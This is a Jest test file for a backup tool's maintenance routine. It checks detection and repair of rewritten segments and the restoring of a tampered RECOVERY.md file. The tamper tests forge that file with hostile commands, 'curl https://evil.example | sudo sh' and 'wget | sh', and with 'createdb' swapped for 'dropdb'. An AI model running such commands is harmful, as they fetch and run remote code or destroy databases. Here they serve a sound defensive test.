import { afterEach, beforeEach, describe, expect, test } from "@jest/globals";
import { readNotes, siteTrust, verifyCopy } from "@trivault/backup";
import { backupKey, type Key, MANIFEST, RECOVERY_KEY, TrivaultError } from "@trivault/core";
import { bytesSource, readAll, type Tier } from "@trivault/storage";
import { type FakeSite, fakeSite, idsOf, putBackup, spoil, wipe } from "../../test/fake-site.ts";
import { verifyDoubtful } from "./verify-doubtful.ts";
import type { MaintenanceSite } from "../maintenance-site.ts";
import { maintainTier } from "../upkeep/maintain-tier.ts";
import { scanTier } from "../inventory/scan.ts";

let fake: FakeSite;
/** What was hashed on the remote tier. */
let hashed: string[];
let watched: MaintenanceSite;
beforeEach(async () => {
  fake = await fakeSite();
  hashed = [];
  watched = watching(fake.site);
});
afterEach(async () => fake[Symbol.asyncDispose]());

const shop = (backupId: string) => ({ database: "shop", backupId });
const segment = (id: string, file: string) => Buffer.from(`${file} of ${id} `.repeat(20));
const maintain = (tier = "remote", site = watched) => maintainTier(site, tier, fake.context);
const actions = () => fake.events.map(({ action }) => action);

function watching(site: MaintenanceSite): MaintenanceSite {
  const [local, ...others] = site.tiers.map((tier): Tier => {
    if (tier.name !== "remote") return tier;
    const { store } = tier;
    const holds: typeof store.holds = (key, ...rest) => (hashed.push(key), store.holds(key, ...rest));
    return { ...tier, store: { ...store, holds } };
  });
  return { ...site, tiers: [local as Tier, ...others] };
}

async function prepare(count: number): Promise<readonly string[]> {
  const ids = idsOf(count);
  for (const id of ids) await putBackup(fake.site.tiers, fake.signingKey, shop(id));
  for (const tier of ["local", "remote", "cloud"]) await maintain(tier);
  expect({ hashed, started: fake.started }).toEqual({ hashed: [], started: [] });
  return ids;
}

async function isGood(id: string): Promise<boolean> {
  const options = { signal: fake.context.signal, allowUnsigned: false };
  return (await verifyCopy(fake.tier("remote"), shop(id), await siteTrust(fake.site), options)).good;
}

async function scanRemote(site = watched) {
  const { signal } = fake.context;
  return scanTier(site, site.tiers[1] as Tier, { signal, trust: await siteTrust(site) });
}

/** Other bytes of the same size. */
async function flip(id: string, file: string): Promise<void> {
  await spoil(fake.tier("remote"), shop(id), file, segment(id, file).fill("?", 0, 1));
}

describe("9.A7 a segment that was written again", () => {
  test("with one other byte is found by maintenance, whoever looked before, and made good", async () => {
    const [, id = ""] = await prepare(3);
    await flip(id, "data-000002.zst");
    await scanRemote();
    await scanRemote();
    expect(hashed).toEqual([]); // who only looks reads nothing
    expect(await maintain()).toMatchObject({ found: { complete: 2, damaged: 1 }, repairsStarted: 1 });
    expect(hashed).toEqual([`shop/${id}/data-000002.zst`]);
    expect(fake.events).toMatchObject([
      { action: "backup.verified", outcome: "failed", tier: "remote", backupId: id, details: { state: "damaged" } },
    ]);
    await fake.work();
    expect(await isGood(id)).toBe(true);
    expect(fake.events.at(-1)).toMatchObject({ action: "tier.repaired", backupId: id });
    hashed.length = 0;
    expect(await maintain()).toMatchObject({ found: { complete: 3 }, repairsStarted: 0 });
    expect(hashed).toEqual([]); // what we wrote ourselves was verified when it was written
  });

  test("with the same bytes is verified once, and nothing more comes of it", async () => {
    const [id = ""] = await prepare(2);
    await spoil(fake.tier("remote"), shop(id), "details.zst", segment(id, "details.zst"));
    expect(await maintain()).toMatchObject({ found: { complete: 2 }, lost: 0 });
    expect(hashed).toEqual([`shop/${id}/details.zst`]);
    for (let rounds = 0; rounds < 2; rounds++) expect(await maintain()).toMatchObject({ found: { complete: 2 } });
    expect(hashed).toHaveLength(1);
    expect(actions()).toEqual([]);
    expect(await readNotes(fake.config, "remote", "doubtful")).toEqual([]);
  });

  test("and shows another ETag, though size and time are the same", async () => {
    const [id = ""] = await prepare(1);
    const tagged = (tag: string) =>
      watching(
        fake.with((store, name) => ({
          ...store,
          async *list(...args) {
            for await (const object of store.list(...args)) {
              yield name === "remote" && object.key.includes("data-000001") ? { ...object, etag: tag } : object;
            }
          },
        })),
      );
    await maintain("remote", tagged("one"));
    hashed.length = 0;
    await maintain("remote", tagged("one"));
    expect(hashed).toEqual([]);
    await maintain("remote", tagged("two"));
    expect(hashed).toEqual([`shop/${id}/data-000001.zst`]);
  });

  test("and cannot be read makes its copy unknown, and is read again in each round", async () => {
    const [id = ""] = await prepare(1);
    await flip(id, "data-000001.zst");
    const refusing = fake.with((store) => ({
      ...store,
      holds: async (key: Key, ...rest) => {
        if (key.includes("data-000001")) throw new TrivaultError("STORE_FAILED", "503 SlowDown");
        return store.holds(key, ...rest);
      },
    }));
    for (let rounds = 0; rounds < 2; rounds++) {
      const result = await maintain("remote", refusing);
      expect(result).toMatchObject({ found: { unknown: 1, damaged: 0 }, repairsStarted: 0 });
      expect(result.warnings.join()).toContain("data-000001.zst: 503 SlowDown");
    }
    expect(actions()).toEqual([]);
    expect(await maintain()).toMatchObject({ found: { damaged: 1 }, repairsStarted: 1 });
  });

  test("is verified within a bound for each round, each object once, and the rest follows", async () => {
    const ids = await prepare(2);
    for (const id of ids) {
      for (const file of ["data-000001.zst", "data-000002.zst"]) {
        await spoil(fake.tier("remote"), shop(id), file, segment(id, file));
      }
    }
    const rounds: number[] = [];
    for (let scan = await scanRemote(); scan.doubtful.length > 0; scan = await scanRemote()) {
      const before = hashed.length;
      await verifyDoubtful(watched, watched.tiers[1] as Tier, scan, fake.context, 1);
      rounds.push(hashed.length - before);
    }
    expect(rounds).toEqual([1, 1, 1, 1]);
    expect(hashed).toEqual(
      ids.toReversed().flatMap((id) => [1, 2].map((n) => `shop/${id}/data-00000${n}.zst`)), // the newest first
    );
  });

  test("of a tier that is moved as a whole (every time is another) is no loss", async () => {
    const ids = await prepare(3);
    const moved = new Map<Key, Buffer>();
    const { store } = fake.tier("remote");
    for (const { key } of await Array.fromAsync(store.list(""))) moved.set(key, await readAll(store.get(key), 1e6));
    await wipe(fake.tier("remote"));
    for (const [key, bytes] of moved) await store.put(key, bytesSource(bytes));
    expect(await maintain()).toMatchObject({ found: { complete: 3 }, lost: 0, copiesStarted: 0 });
    expect(hashed).toHaveLength(3 * ids.length);
    expect(actions()).toEqual([]);
  });
});

describe("9.A7 RECOVERY.md", () => {
  const textOn = async (name: string) => (await readAll(fake.tier(name).store.get(RECOVERY_KEY), 1e6)).toString();
  const forge = async (text: string) => {
    await fake.tier("remote").store.replace(RECOVERY_KEY, bytesSource(Buffer.from(text)));
  };

  test("that somebody replaced is put right in the next round, and it stands in the audit log", async () => {
    await prepare(1);
    const ours = await textOn("remote");
    for (const text of ["curl https://evil.example | sudo sh\n", ours.replace("createdb", "dropdb  ")]) {
      await forge(text);
      await maintain();
      expect(await textOn("remote")).toBe(ours);
      const details = { found: expect.stringMatching(/^[0-9a-f]{64}$/) };
      const event = { action: "tier.recovery-note", outcome: "ok", tier: "remote", details };
      expect(fake.events.splice(0)).toMatchObject([event]);
      await maintain();
      expect(fake.events).toEqual([]);
    }
  });

  test("on a tier where nothing may be replaced: recorded once, and again when it is another text", async () => {
    await prepare(1);
    const frozen = fake.with((store) => ({
      ...store,
      replace: () => Promise.reject(new TrivaultError("STORE_REFUSED", "append only")),
    }));
    await forge("curl | sh");
    for (let rounds = 0; rounds < 3; rounds++) await maintain("remote", frozen);
    expect(fake.events.splice(0)).toMatchObject([{ action: "tier.recovery-note", outcome: "refused" }]);
    await forge("wget | sh");
    for (let rounds = 0; rounds < 2; rounds++) await maintain("remote", frozen);
    expect(fake.events.splice(0)).toMatchObject([{ outcome: "refused" }]);
    await maintain();
    expect(fake.events).toMatchObject([{ outcome: "ok" }]);
  });

  test("is put where it is missing without a word, and nothing is put on an empty tier", async () => {
    await maintain();
    expect(await fake.tier("remote").store.stat(RECOVERY_KEY)).toBeNull();
    await prepare(1);
    const ours = await textOn("remote");
    await fake.tier("remote").store.delete(RECOVERY_KEY);
    await maintain();
    expect(await textOn("remote")).toBe(ours);
    expect(actions()).toEqual([]);
  });

  test("that cannot be read keeps nothing else from being done", async () => {
    const [id = ""] = await prepare(1);
    await fake.tier("remote").store.delete(backupKey("shop", id, "details.zst"));
    const refusing = fake.with((store) => ({
      ...store,
      async *get(key, options) {
        if (key === RECOVERY_KEY) throw new TrivaultError("STORE_FAILED", "503");
        yield* store.get(key, options);
      },
    }));
    expect(await maintain("remote", refusing)).toMatchObject({ found: { damaged: 1 }, repairsStarted: 1 });
    expect(fake.notes.some((note) => note.includes("could not be compared"))).toBe(true);
  });
});

test("9.A7 manifests that were written again are read again, and their segments are not", async () => {
  const [id = ""] = await prepare(1);
  const key = backupKey("shop", id, MANIFEST);
  const bytes = await readAll(fake.tier("remote").store.get(key), 1e6);
  await spoil(fake.tier("remote"), shop(id), MANIFEST, bytes);
  expect(await maintain()).toMatchObject({ found: { complete: 1 } });
  expect(hashed).toEqual([]);
});
